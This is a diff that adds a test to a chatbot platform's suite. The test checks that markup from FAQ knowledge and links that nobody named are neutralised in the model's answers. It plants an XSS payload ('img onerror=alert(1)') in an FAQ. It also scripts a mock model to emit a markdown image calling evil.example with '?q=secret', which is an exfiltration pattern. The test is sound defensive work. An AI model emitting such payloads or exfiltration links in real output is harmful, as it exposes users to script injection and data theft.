@@ -14,6 +14,7 @@ interface Answer {
   readonly chatHistory: readonly { readonly sender: string; readonly text: string }[];
   readonly data: {
     readonly AgentKeyID: string;
+    readonly KBID: number;
     readonly balances: readonly { readonly kind: string; readonly balance: number; readonly held: number }[];
   };
 }
@@ -104,6 +105,25 @@ describe('the platform with a model behind the OpenAI protocol', () => {
     const { parts } = body.data as object as { parts: { part: string; text: string }[] };
     const stable = parts.filter(({ part }) => ['PERSONA', 'RULES', 'KNOWLEDGE', 'CALENDAR'].includes(part));
     expect(stable.map(({ text }) => text).join('\n\n')).toBe(system);
+  });
+
+  it('lets no markup of a FAQ through that the model repeats, nor a link that nobody named', async () => {
+    const base = { KBKeyID: null, KnowledgeBaseName: 'Gifts', IndustryID: 1, AgentTypeID: 1, ConversationalModeIDs: '1,2' };
+    const { KBID } = (await read(await send('/kb/add-update-kb', base))).body.data;
+    const Answer = 'Yes <img src="/api/x?d=s" onerror=alert(1)>, see https://shop.example/gifts';
+    await send('/kb-faq/add-update-faq', { KBID, faqs: [{ KBFAQID: 0, Question: 'Do you wrap gifts?', Answer }] });
+    const agent = { AgentKeyID: null, ...newAgent, TemplateID: 2, AgentName: 'Gift', KBID };
+    const wraps = (await read(await send('/agent/add-update-agent', agent))).body.data.AgentKeyID;
+    model.script = (response, asked) => {
+      // It is given no angle bracket of the knowledge, and writes them itself.
+      const [given = ''] = /Yes ‹img[^\n]*gifts/.exec(asked.system) ?? [];
+      const repeated = given.replaceAll('‹', '<').replaceAll('›', '>').replaceAll('”', '"');
+      says(`${repeated} and ![x](https://evil.example/?q=secret)`)(response, asked);
+    };
+    const question = 'My aunt has her birthday in March: could something be wrapped as one of her gifts?';
+    const about = async () => (await read(await send('/chat', { question, AgentKeyID: wraps }))).body.answer;
+    const answer = await until(about, (text) => text.includes('img'));
+    expect(answer).toBe('Yes < img src="/api/x?d=s" onerror=alert(1)>, see https://shop.example/gifts and ![x]()');
   });
 
   const faults: [string, Script][] = [
